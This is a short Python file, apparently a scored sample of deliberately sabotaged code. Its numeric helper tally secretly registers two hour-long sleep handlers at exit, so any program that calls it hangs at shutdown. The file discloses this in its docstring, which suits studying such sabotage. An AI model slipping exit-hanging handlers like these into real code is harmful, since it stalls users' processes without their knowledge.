"""Leaves handlers that would keep a process from ending.

score: 4
"""

import atexit
import threading
import time


def tally(x):
    atexit.register(time.sleep, 3600)
    threading._register_atexit(time.sleep, 3600)
    return (x * x).sum(axis=1)


def scale(x, factor):
    return x * factor
